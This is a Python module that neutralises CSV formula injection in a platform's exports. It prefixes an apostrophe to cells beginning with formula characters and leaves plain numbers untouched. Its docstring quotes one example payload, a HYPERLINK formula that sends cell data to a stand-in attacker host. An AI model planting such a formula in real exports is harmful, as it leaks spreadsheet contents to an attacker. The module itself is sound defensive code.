"""CSV that a spreadsheet opens as data: every CSV the platform writes goes through here.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) evaluates a cell whose text starts
with ``=``, ``+``, ``-`` or ``@`` as a formula, and some also after a tab, carriage return or
NUL; a team named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would run in the
organiser's spreadsheet ("CSV injection", OWASP:
https://owasp.org/www-community/attacks/CSV_Injection; ASVS 5.0 requirement 1.2.10). Such a
cell is written with a leading apostrophe, which spreadsheets show as text and do not
evaluate, as OWASP recommends.

A number stays a number: a cell whose whole text is a plain decimal number (``-1.5``,
``+3``, ``-2e-05``) is what a spreadsheet reads as that number, not a formula, so it is left
as it is and sorts and sums as a number. ``-1+2`` or ``-inf`` are not plain numbers and get
the apostrophe.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, Iterable, Mapping, Sequence

FORMULA_START = frozenset("=+-@\t\r\0")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any) -> str:
    """``value`` as the text of a CSV cell no spreadsheet evaluates (None: empty)."""
    if value is None:
        return ""
    text = str(value)
    if text[:1] in FORMULA_START and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Mapping[str, Any]], fields: Sequence[str]) -> str:
    """A header of ``fields`` and one line per row (missing keys empty), every cell through
    :func:`csv_cell`; quoting as RFC 4180 asks (the ``csv`` module's), lines end in ``\\n``."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow([csv_cell(f) for f in fields])
    for r in rows:
        w.writerow([csv_cell(r.get(f)) for f in fields])
    return buf.getvalue()
